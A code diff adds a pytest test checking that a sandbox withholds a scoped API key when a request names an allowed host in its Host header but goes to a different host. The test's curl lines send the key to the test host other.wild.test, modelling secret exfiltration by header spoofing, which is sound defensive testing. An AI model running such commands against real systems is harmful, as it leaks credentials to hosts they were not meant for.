@@ -192,6 +192,17 @@ def test_secret_reaches_only_its_host(online, world):
 	assert kept_anywhere(online.state, KEY) == ''
 
 
+def test_name_in_a_request_gets_no_value(online, world):
+	"""Without an allow list a request may name another host than its certificate does: the value stays here."""
+	run = online.sh('''
+curl -sS https://other.wild.test/ -H 'Host: allowed.test' -H "X-Api-Key: $API_KEY" -o /dev/null -w '%{http_code}\\n'
+curl -sS http://other.wild.test/ -H 'Host: allowed.test' -H "X-Api-Key: $API_KEY" -o /dev/null -w '%{http_code}\\n'
+''', options=('--net', 'open', *world.net, '--secret', 'API_KEY@allowed.test'), env={'API_KEY': KEY})
+	assert run.lines == ['403', '403'], run
+	assert world.log('http') == []
+	assert [event['name'] for event in run.record.events('secret.misuse')] == ['API_KEY'] * 2
+
+
 @pytest.fixture
 def h2_server(world, tmp_path):
 	"""nghttpd: HTTP/2 as another server speaks it, on a plain and a TLS port."""
